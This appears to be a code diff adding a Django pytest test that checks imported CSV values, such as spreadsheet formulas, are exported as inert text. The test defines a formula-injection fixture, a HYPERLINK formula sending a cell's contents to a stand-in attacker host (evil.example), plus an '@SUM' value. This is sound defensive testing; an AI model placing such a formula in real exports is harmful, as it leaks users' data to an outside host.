@@ -158,3 +158,37 @@ class django_capture_on_commit:
 
     def __exit__(self, *exc):
         return self._ctx.__exit__(*exc)
+
+
+HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'
+HOSTILE_MAPPING = """
+format = "dps-import-mapping"
+version = 1
+name = "Hostile"
+[subject]
+id = "who"
+ethnicity = "group"
+[allegation]
+category = "kind"
+received = { column = "when", format = "%Y-%m-%d" }
+"""
+
+
+@pytest.mark.django_db
+def test_imported_values_that_a_spreadsheet_would_run_are_sent_as_text(client, tmp_path):
+    from cases.fairness import services
+
+    path = tmp_path / "hostile.csv"
+    quoted = HOSTILE.replace('"', '""')
+    path.write_text(f'who,group,kind,when\n1,"{quoted}",x,2024-01-01\n2,a,"{quoted}",@SUM(1)\n')
+    run = services.import_dataset(
+        mapping_text=HOSTILE_MAPPING, mapping_origin="m", data_path=path, source_name="Hostile"
+    )
+    assert run.rows_imported == 1 and run.rows_rejected == 1
+    assert "'@SUM(1)" in run.issues_csv and ",@SUM" not in run.issues_csv
+    sign_in(client, UserFactory(roles=[Role.SUPERVISOR]))
+    export = client.get(reverse("fairness:monitoring_export"), {"source": run.source.slug})
+    assert export.status_code == 200
+    body = export.content.decode()
+    assert "'" + HOSTILE.replace('"', '""') in body
+    assert ",=" not in body and "\n=" not in body
